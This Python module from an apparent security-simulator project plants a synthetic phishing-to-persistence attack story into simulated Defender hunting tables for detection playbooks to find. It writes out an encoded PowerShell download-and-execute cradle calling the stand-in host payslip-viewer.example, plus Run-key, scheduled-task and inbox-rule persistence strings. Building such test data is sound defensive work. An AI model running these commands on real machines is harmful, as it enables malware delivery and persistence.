"""The attack story planted in every simulated tenant, for hunting playbooks to find.

One High-severity incident of each tenant is a phishing chain (docs/simulator.md, "The attack
story"). :func:`pick_alert` chooses its alert and the simulator's seed data gives that alert the
chain's evidence (:func:`alert_evidence`), so the incident APIs name the chain's files, URL, IP
and user. :func:`write_story` then writes the chain's rows into the hunting tables on the alert's
device, for the alert's user, at times :data:`STEPS` places before the alert:

1. a mail from :data:`STORY_SENDER` with the link :data:`STORY_URL` and the macro document
   :data:`STORY_ATTACHMENT` (EmailEvents, EmailUrlInfo, EmailAttachmentInfo);
2. the user clicks through a Safe Links warning (UrlClickEvents) and opens the attachment:
   OUTLOOK.EXE → WINWORD.EXE → ``powershell.exe -enc`` → rundll32.exe (DeviceProcessEvents);
3. PowerShell downloads :data:`STORY_PAYLOAD` from :data:`STORY_DOMAIN` (DeviceFileEvents,
   DeviceEvents PowerShellCommand), rundll32 loads it and beacons to the domain, a domain no other
   device contacts (DeviceNetworkEvents, DeviceImageLoadEvents);
4. persistence: the Run value :data:`STORY_RUN_VALUE` and a scheduled task (DeviceRegistryEvents,
   DeviceEvents ScheduledTaskCreated); the antivirus finally flags the DLL (AntivirusDetection);
5. with the phished password someone signs in from :data:`STORY_SIGNIN_IP` in
   :data:`STORY_SIGNIN_COUNTRY` (AADSignInEventsBeta / EntraIdSignInEvents, IdentityLogonEvents)
   and hides replies with an inbox rule (CloudAppEvents New-InboxRule).

Rows go only to the tables the schemas define, with only the columns they define. The
indicators are the same in every tenant; ids, users, devices and times are the tenant's.
"""

from __future__ import annotations

import base64
import hashlib
import uuid
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any, Iterable, Mapping, Protocol

from .identities import HOME_COUNTRY, display_name, signin, user_sid

__all__ = ["HOME_COUNTRY", "STEPS", "STORY_ATTACHMENT", "STORY_ATTACHMENT_SHA256", "STORY_CATEGORY",
           "STORY_DOMAIN", "STORY_DOWNLOAD_URL", "STORY_IP", "STORY_PAYLOAD", "STORY_PAYLOAD_SHA1",
           "STORY_PAYLOAD_SHA256", "STORY_POWERSHELL", "STORY_RUN_KEY", "STORY_RUN_VALUE", "STORY_SENDER",
           "STORY_SENDER_IP", "STORY_SIGNIN_COUNTRY", "STORY_SIGNIN_IP", "STORY_SUBJECT", "STORY_TASK",
           "STORY_TECHNIQUES", "STORY_THREAT", "STORY_TITLE", "STORY_URL", "Victim", "alert_evidence",
           "file_hashes", "find_alert", "pick_alert", "write_story"]


def file_hashes(label: str) -> dict[str, str]:
    """SHA256, SHA1 and MD5 derived from ``label``: stable fake hashes for a simulated file."""
    b = label.encode()
    return {"SHA256": hashlib.sha256(b).hexdigest(), "SHA1": hashlib.sha1(b).hexdigest(),
            "MD5": hashlib.md5(b).hexdigest()}


STORY_SENDER = "payroll@hr-payslips.example"
STORY_SENDER_IP = "192.0.2.250"
STORY_SUBJECT = "Your updated payslip - action required"
STORY_DOMAIN = "payslip-viewer.example"
STORY_IP = "192.0.2.251"
STORY_URL = f"https://{STORY_DOMAIN}/view?doc=payslip-7731"
STORY_DOWNLOAD_URL = f"https://{STORY_DOMAIN}/s/synchost.dll"
STORY_ATTACHMENT = "Payslip_Review.docm"
STORY_PAYLOAD = "synchost.dll"
_DOC = file_hashes("soar-sim:story:" + STORY_ATTACHMENT)
_DLL = file_hashes("soar-sim:story:" + STORY_PAYLOAD)
STORY_ATTACHMENT_SHA256 = _DOC["SHA256"]
STORY_PAYLOAD_SHA256, STORY_PAYLOAD_SHA1 = _DLL["SHA256"], _DLL["SHA1"]
STORY_RUN_KEY = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run"  # under HKEY_CURRENT_USER\<the user's SID>
STORY_RUN_VALUE = "SyncHost"
STORY_TASK = r"\Microsoft\Windows\SyncHost\Update"
STORY_THREAT = "Trojan:Win32/SyncHost.A"
_SCRIPT = (f'$p="$env:APPDATA\\Microsoft\\SyncHost\\{STORY_PAYLOAD}";iwr {STORY_DOWNLOAD_URL} -OutFile $p;'
           "rundll32.exe $p,DllRegisterServer")
#: What WINWORD.EXE runs: PowerShell with the download script base64-encoded (UTF-16LE), as -enc takes it.
STORY_POWERSHELL = ("powershell.exe -NoProfile -WindowStyle Hidden -enc "
                    + base64.b64encode(_SCRIPT.encode("utf-16-le")).decode())
STORY_SIGNIN_IP = "2001:db8:4c1:17::25"
STORY_SIGNIN_COUNTRY, _SIGNIN_CITY, _SIGNIN_ISP = "NL", "Amsterdam", "Example Hosting B.V."
STORY_TITLE, STORY_CATEGORY = "Malicious attachment opened", "InitialAccess"
STORY_TECHNIQUES = ["T1566.001", "T1204.002", "T1059.001", "T1218.011", "T1547.001", "T1078.004", "T1564.008"]

#: Seconds from the story alert's creation to each step (all before it). The alert's
#: firstEventTime is the mail's delivery, its lastEventTime the antivirus detection.
STEPS = {"mail": -45 * 60, "logon": -44 * 60, "click": -42 * 60, "open": -40 * 60, "powershell": -39 * 60,
         "download": -38 * 60 - 50, "rundll32": -38 * 60 - 30, "persist": -38 * 60, "beacon": -37 * 60,
         "signin": -30 * 60, "inbox_rule": -27 * 60, "detection": -3 * 60}
_BEACONS = 7  # one every 5 minutes from "beacon"

# ---- the story alert -------------------------------------------------------------------------

def pick_alert(alerts: Iterable[Mapping], devices: Iterable[Mapping],
               incidents: Iterable[Mapping] | None = None) -> Mapping | None:
    """The alert the story belongs to: on a Windows device and naming a user; preferably a High
    alert in an Active High-severity incident (without ``incidents``: a High, New alert), on a
    workstation rather than a server, on a High-risk device with an Active sensor (one a triage
    playbook isolates), the newest."""
    windows = {str(d.get("id") or d.get("deviceId")): d for d in devices
               if str(d.get("osPlatform") or "").startswith("Windows")}
    hot = None if incidents is None else {
        i.get("incidentId") for i in incidents if i.get("status") == "Active" and i.get("severity") == "High"}

    def rank(a: Mapping) -> tuple:
        device = windows[a["machineId"]]
        urgent = a.get("incidentId") in hot if hot is not None else a.get("status") == "New"
        return (urgent and a.get("severity") == "High", urgent, not str(device.get("osPlatform")).startswith("WindowsServer"),
                device.get("riskScore") == "High", device.get("healthStatus") == "Active",
                str(a.get("alertCreationTime") or ""), str(a.get("id")))
    found = [a for a in alerts if a.get("machineId") in windows
             and any(ev.get("entityType") == "User" for ev in a.get("evidence") or [])]
    return max(found, key=rank, default=None)


def find_alert(alerts: Iterable[Mapping], device_ids: Iterable[str]) -> Mapping | None:
    """The alert that carries the story (the one whose evidence names :data:`STORY_PAYLOAD_SHA256`)
    on one of ``device_ids``, or None."""
    ids = set(device_ids)
    return next((a for a in alerts if a.get("machineId") in ids and any(
        ev.get("sha256") == STORY_PAYLOAD_SHA256 for ev in a.get("evidence") or [])), None)


def _folders(user: str) -> dict[str, str]:
    home = rf"C:\Users\{user}"
    return {"doc": rf"{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q7WZ3K1M",
            "dll": rf"{home}\AppData\Roaming\Microsoft\SyncHost"}


def alert_evidence(user: Mapping, created: str) -> list[dict]:
    """The story alert's evidence (MDE shape): ``user`` (its User evidence) and the chain's
    attachment, payload, PowerShell process, URL and IP. ``created``: the evidence time (ISO)."""
    name = str(user.get("accountName"))
    folders = _folders(name)
    common = {"evidenceCreationTime": created, "detectionStatus": "Detected"}
    ps = file_hashes("benign:powershell.exe")
    return [
        {**user, "userSid": user_sid(name)},
        {**common, "entityType": "File", "fileName": STORY_ATTACHMENT, "filePath": folders["doc"],
         "sha1": _DOC["SHA1"], "sha256": _DOC["SHA256"]},
        {**common, "entityType": "File", "fileName": STORY_PAYLOAD, "filePath": folders["dll"],
         "sha1": _DLL["SHA1"], "sha256": _DLL["SHA256"]},
        {**common, "entityType": "Process", "fileName": "powershell.exe",
         "filePath": r"C:\Windows\System32\WindowsPowerShell\v1.0", "processCommandLine": STORY_POWERSHELL,
         "sha1": ps["SHA1"], "sha256": ps["SHA256"]},
        {**common, "entityType": "Url", "url": STORY_URL},
        {**common, "entityType": "Ip", "ipAddress": STORY_IP},
    ]


# ---- the rows --------------------------------------------------------------------------------

class Writer(Protocol):
    def add_known(self, table: str, when: datetime, device: dict | None = None, **columns: Any) -> None:
        """Add a row to ``table`` with the columns SCHEMAS gives it; nothing if SCHEMAS has no such table."""


@dataclass(frozen=True)
class Victim:
    """Who and where: the story alert's user on the alert's device (the seed data's device dict)."""

    name: str
    upn: str
    object_id: str
    device: dict
    alert: Mapping
    at: datetime  # the alert's creation time

    @property
    def sid(self) -> str:
        return user_sid(self.name)

    @property
    def domain(self) -> str:
        return self.device["domain"].split(".")[0]

    def when(self, step: str, seconds: float = 0) -> datetime:
        return self.at + timedelta(seconds=STEPS[step] + seconds)


@dataclass(frozen=True)
class _Proc:
    file: str
    folder: str
    command: str
    pid: int
    created: datetime
    company: str = "Microsoft Corporation"

    @property
    def hashes(self) -> dict[str, str]:
        return file_hashes(f"benign:{self.file}")


def _initiating(p: _Proc, parent: _Proc, v: Victim) -> dict:
    return {**{f"InitiatingProcess{k}": h for k, h in p.hashes.items()},
            "InitiatingProcessFileName": p.file, "InitiatingProcessFolderPath": rf"{p.folder}\{p.file}",
            "InitiatingProcessId": p.pid, "InitiatingProcessCommandLine": p.command,
            "InitiatingProcessCreationTime": p.created, "InitiatingProcessParentId": parent.pid,
            "InitiatingProcessParentFileName": parent.file, "InitiatingProcessParentCreationTime": parent.created,
            "InitiatingProcessAccountDomain": v.domain, "InitiatingProcessAccountName": v.name,
            "InitiatingProcessAccountSid": v.sid, "InitiatingProcessAccountUpn": v.upn,
            "InitiatingProcessAccountObjectId": v.object_id, "InitiatingProcessIntegrityLevel": "Medium",
            "InitiatingProcessTokenElevation": "TokenElevationTypeLimited",
            "InitiatingProcessVersionInfoCompanyName": p.company}


def write_story(w: Writer, v: Victim, rng: Any, alert_columns: Mapping[str, Any]) -> None:
    """The chain's rows on ``v.device`` for ``v``; ``rng`` draws ids and ports. ``alert_columns``:
    the AlertEvidence columns every row of the story alert carries (AlertId, Title, ...)."""
    d = v.device
    folders = _folders(v.name)
    logon_id = rng.randrange(100_000, 999_999)
    account = {"AccountDomain": v.domain, "AccountName": v.name, "AccountSid": v.sid, "AccountUpn": v.upn,
               "AccountObjectId": v.object_id}
    message_id = str(uuid.UUID(int=rng.getrandbits(128), version=4))

    def pid() -> int:
        return rng.randrange(1000, 30000)

    explorer = _Proc("explorer.exe", r"C:\Windows", "explorer.exe", pid(), v.when("logon", 20))
    outlook = _Proc("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16", '"OUTLOOK.EXE"', pid(),
                    v.when("logon", 60))
    edge = _Proc("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application",
                 f'"msedge.exe" --single-argument {STORY_URL}', pid(), v.when("click", 5))
    word = _Proc("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16",
                 rf'"WINWORD.EXE" /n "{folders["doc"]}\{STORY_ATTACHMENT}" /o ""', pid(), v.when("open", 5))
    ps = _Proc("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0", STORY_POWERSHELL, pid(),
               v.when("powershell"))
    rundll = _Proc("rundll32.exe", r"C:\Windows\System32",
                   rf'"rundll32.exe" {folders["dll"]}\{STORY_PAYLOAD},DllRegisterServer', pid(), v.when("rundll32"))

    # 1. the mail, its link and its attachment
    sender = {"SenderFromAddress": STORY_SENDER, "SenderDisplayName": "Payroll Team",
              "RecipientEmailAddress": v.upn, "RecipientObjectId": v.object_id}
    sender_domain = STORY_SENDER.split("@")[1]
    w.add_known("EmailEvents", v.when("mail"), NetworkMessageId=message_id,
                InternetMessageId=f"<{message_id[:13]}@{sender_domain}>", SenderMailFromAddress=STORY_SENDER,
                SenderMailFromDomain=sender_domain, SenderFromDomain=sender_domain, SenderIPv4=STORY_SENDER_IP,
                Subject=STORY_SUBJECT, EmailDirection="Inbound", DeliveryAction="Delivered",
                DeliveryLocation="Inbox/folder", ThreatTypes="Malware, Phish",
                ThreatNames="TrojanDownloader:O97M/SyncHost",
                DetectionMethods={"Malware": ["File detonation"], "Phish": ["URL detonation reputation"]},
                ConfidenceLevel={"Malware": "High", "Phish": "Normal"},
                AuthenticationDetails={"SPF": "pass", "DKIM": "none", "DMARC": "none", "CompAuth": "softpass"},
                AttachmentCount=1, UrlCount=1, EmailLanguage="en", OrgLevelAction="Allow",
                OrgLevelPolicy="Allowed sender list", LatestDeliveryLocation="Junk folder",
                LatestDeliveryAction="Moved to junk folder", **sender)
    w.add_known("EmailUrlInfo", v.when("mail"), NetworkMessageId=message_id, Url=STORY_URL, UrlDomain=STORY_DOMAIN,
                UrlLocation="Body")
    w.add_known("EmailAttachmentInfo", v.when("mail"), NetworkMessageId=message_id, FileName=STORY_ATTACHMENT,
                FileType="docm", SHA256=_DOC["SHA256"], FileSize=88_064, ThreatTypes="Malware",
                ThreatNames="TrojanDownloader:O97M/SyncHost", DetectionMethods={"Malware": ["File detonation"]},
                **sender)

    # 2. the click and the process tree
    w.add_known("DeviceLogonEvents", v.when("logon"), d, ActionType="LogonSuccess", LogonType="Unlock",
                Protocol="Negotiate", IsLocalAdmin=False, LogonId=logon_id, RemoteIP="", RemoteIPType="",
                InitiatingProcessFileName="lsass.exe", **_short(account))
    click = {"Url": STORY_URL, "AccountUpn": v.upn, "Workload": "Email", "NetworkMessageId": message_id,
             "ThreatTypes": "Phish", "DetectionMethods": "URL detonation reputation", "IPAddress": d["public_ip"],
             "UrlChain": [STORY_URL]}
    click_id = str(rng.randrange(10**9, 10**10))  # a click-through repeats the report id of the blocked click
    w.add_known("UrlClickEvents", v.when("click"), ActionType="ClickBlocked", IsClickedThrough=False,
                ReportId=click_id, **click)
    w.add_known("UrlClickEvents", v.when("click", 4), ActionType="ClickAllowed", IsClickedThrough=True,
                ReportId=click_id, **click)
    tree = [(edge, outlook, explorer), (word, outlook, explorer), (ps, word, outlook), (rundll, ps, word)]
    for p, parent, grandparent in tree:
        w.add_known("DeviceProcessEvents", p.created, d, ActionType="ProcessCreated", FileName=p.file,
                    FolderPath=rf"{p.folder}\{p.file}", **p.hashes, FileSize=rng.randrange(80_000, 4_000_000),
                    ProcessVersionInfoCompanyName=p.company, ProcessVersionInfoOriginalFileName=p.file,
                    ProcessId=p.pid, ProcessCommandLine=p.command, ProcessCreationTime=p.created,
                    ProcessIntegrityLevel="Medium", ProcessTokenElevation="TokenElevationTypeLimited", LogonId=logon_id,
                    InitiatingProcessLogonId=logon_id, **account, **_initiating(parent, grandparent, v))
    w.add_known("DeviceFileEvents", v.when("open", -2), d, ActionType="FileCreated", FileName=STORY_ATTACHMENT,
                FolderPath=rf"{folders['doc']}\{STORY_ATTACHMENT}", **_DOC, FileSize=88_064,
                **_initiating(outlook, explorer, v))

    # 3. the download, the payload and its calls home
    remote = {"RemoteIP": STORY_IP, "RemotePort": 443, "LocalIP": d["ip"], "Protocol": "Tcp",
              "LocalIPType": "Private", "RemoteIPType": "Public", "ActionType": "ConnectionSuccess"}
    w.add_known("DeviceNetworkEvents", v.when("click", 6), d, RemoteUrl=STORY_DOMAIN,
                LocalPort=rng.randrange(49152, 65535), **remote, **_initiating(edge, outlook, v))
    w.add_known("DeviceEvents", v.when("powershell", 2), d, ActionType="PowerShellCommand",
                AdditionalFields={"Command": "Invoke-WebRequest"}, **_initiating(ps, word, v), **_short(account))
    w.add_known("DeviceNetworkEvents", v.when("download", -2), d, RemoteUrl=STORY_DOMAIN,
                LocalPort=rng.randrange(49152, 65535), **remote, **_initiating(ps, word, v))
    w.add_known("DeviceFileEvents", v.when("download"), d, ActionType="FileCreated", FileName=STORY_PAYLOAD,
                FolderPath=rf"{folders['dll']}\{STORY_PAYLOAD}", **_DLL, FileSize=241_664,
                FileOriginUrl=STORY_DOWNLOAD_URL, FileOriginIP=STORY_IP, **_initiating(ps, word, v))
    w.add_known("DeviceImageLoadEvents", v.when("rundll32", 1), d, ActionType="ImageLoaded", FileName=STORY_PAYLOAD,
                FolderPath=rf"{folders['dll']}\{STORY_PAYLOAD}", **_DLL, FileSize=241_664,
                **_initiating(rundll, ps, v))
    for i in range(_BEACONS):
        w.add_known("DeviceNetworkEvents", v.when("beacon", 300 * i + rng.randrange(0, 20)), d, RemoteUrl=STORY_DOMAIN,
                    LocalPort=rng.randrange(49152, 65535), **remote, **_initiating(rundll, ps, v))

    # 4. persistence and the detection
    run_data = rf'rundll32.exe "{folders["dll"]}\{STORY_PAYLOAD}",DllRegisterServer'
    task = f"<Exec><Command>{run_data}</Command></Exec>"
    w.add_known("DeviceRegistryEvents", v.when("persist"), d, ActionType="RegistryValueSet",
                RegistryKey=rf"HKEY_CURRENT_USER\{v.sid}\{STORY_RUN_KEY}", RegistryValueType="String",
                RegistryValueName=STORY_RUN_VALUE, RegistryValueData=run_data, **_initiating(rundll, ps, v))
    w.add_known("DeviceEvents", v.when("persist", 10), d, ActionType="ScheduledTaskCreated",
                AdditionalFields={"TaskName": STORY_TASK, "TaskContent": task, "SubjectUserName": v.name,
                                  "SubjectDomainName": v.domain.upper()},
                **_initiating(rundll, ps, v), **_short(account))
    w.add_known("DeviceEvents", v.when("detection"), d, ActionType="AntivirusDetection", FileName=STORY_PAYLOAD,
                FolderPath=rf"{folders['dll']}\{STORY_PAYLOAD}", **_DLL,
                AdditionalFields={"ThreatName": STORY_THREAT, "WasRemediated": False,
                                  "WasExecutingWhileDetected": True, "Action": "Detected"},
                InitiatingProcessFileName="MsMpEng.exe",
                InitiatingProcessFolderPath=r"C:\ProgramData\Microsoft\Windows Defender")

    # 5. the stolen password used from abroad, and the inbox rule
    who = {"Application": "Office 365 Exchange Online", "ApplicationId": "00000002-0000-0ff1-ce00-000000000000",
           "AccountUpn": v.upn, "AccountObjectId": v.object_id, "AccountDisplayName": display_name(v.name),
           "IPAddress": STORY_SIGNIN_IP}
    signin(w, v.when("signin"), rng, who, country=STORY_SIGNIN_COUNTRY, city=_SIGNIN_CITY, risk=50,
           user_agent="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
    w.add_known("IdentityLogonEvents", v.when("signin"), ActionType="LogonSuccess", Application="Office 365",
                LogonType="Login:login", Protocol="", AccountName=v.name, AccountDomain=v.device["domain"],
                AccountUpn=v.upn, AccountObjectId=v.object_id, AccountDisplayName=display_name(v.name),
                IPAddress=STORY_SIGNIN_IP, Location=STORY_SIGNIN_COUNTRY, ISP=_SIGNIN_ISP, OSPlatform="Linux",
                DeviceType="Desktop", AdditionalFields={})
    parameters = [{"Name": "Name", "Value": "."},
                  {"Name": "SubjectOrBodyContainsWords", "Value": "payslip;payroll;invoice"},
                  {"Name": "MoveToFolder", "Value": "RSS Feeds"}, {"Name": "MarkAsRead", "Value": "True"},
                  {"Name": "StopProcessingRules", "Value": "True"}]
    w.add_known("CloudAppEvents", v.when("inbox_rule"), ActionType="New-InboxRule",
                Application="Microsoft Exchange Online", ApplicationId=20893, AccountObjectId=v.object_id,
                AccountId=v.object_id,
                AccountDisplayName=display_name(v.name), IsAdminOperation=False, IPAddress=STORY_SIGNIN_IP,
                IsAnonymousProxy=False, CountryCode=STORY_SIGNIN_COUNTRY, City=_SIGNIN_CITY, ISP=_SIGNIN_ISP,
                ActivityType="Create", ObjectName=".", ObjectType="Inbox rule", AccountType="Regular",
                ActivityObjects=[{"Type": "Inbox rule", "Name": "."}],
                RawEventData={"Operation": "New-InboxRule", "ResultStatus": "True", "UserId": v.upn,
                              "ClientIP": STORY_SIGNIN_IP, "ObjectId": f"{v.upn}\\.", "Parameters": parameters},
                UncommonForUser=["ActionType", "CountryCode", "ISP"])

    # the alert's evidence rows the MDE alert shape has no place for
    evidence = {**alert_columns, "DeviceId": d["id"], "DeviceName": d["name"]}
    w.add_known("AlertEvidence", v.at, EntityType="MailMessage", EvidenceRole="Related", NetworkMessageId=message_id,
                EmailSubject=STORY_SUBJECT, AccountUpn=v.upn, **evidence)
    w.add_known("AlertEvidence", v.at, EntityType="RegistryValue", EvidenceRole="Related",
                RegistryKey=rf"HKEY_CURRENT_USER\{v.sid}\{STORY_RUN_KEY}", RegistryValueName=STORY_RUN_VALUE,
                RegistryValueData=run_data, **evidence)


def _short(account: Mapping) -> dict:
    return {k: account[k] for k in ("AccountDomain", "AccountName", "AccountSid")}
